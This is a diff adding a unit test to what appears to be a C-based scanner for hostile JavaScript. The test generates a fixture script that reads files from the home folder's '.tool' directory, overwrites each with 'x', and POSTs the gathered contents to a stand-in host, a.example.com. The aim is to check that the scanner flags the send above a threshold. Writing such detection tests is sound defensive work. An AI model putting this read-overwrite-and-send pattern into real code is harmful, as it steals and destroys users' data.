@@ -614,9 +614,31 @@ static void test_place_asked(void **state)
 	assert_true(place_asked(0, VARIABLE_VALUE));
 }
 
+#define STATE_FILES 4 /* of behave_file.c */
+
+/* A hook tells what it read in so many files of the home folder, each of which it wrote. */
+static uint32_t state_sent(unsigned files)
+{
+	begin();
+	buf_text(&source, T("const fs = require('fs'), home = require('os').homedir();\nlet said = '';\n"));
+	for (unsigned i = 0; i < files; i++)
+		buf_printf(&source, "said += fs.readFileSync(home + '/.tool/%u');\nfs.writeFileSync(home + '/.tool/%u', 'x');\n", i, i);
+	buf_text(&source, T("fetch('https://a.example.com/b', { method: 'POST', body: said });\n"));
+	scanned("a.js");
+	return acts_of(BEHAVE_SEND, ACT_CONCAT_ARG);
+}
+
+static void test_state_files(void **state)
+{
+	(void)state;
+	assert_false(state_sent(STATE_FILES));
+	assert_true(state_sent(STATE_FILES + 1));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_state_files),
 		cmocka_unit_test(test_acts),	   cmocka_unit_test(test_act_texts),
 		cmocka_unit_test(test_layers),	   cmocka_unit_test(test_coded_word),
 		cmocka_unit_test(test_words),	   cmocka_unit_test(test_scripts),
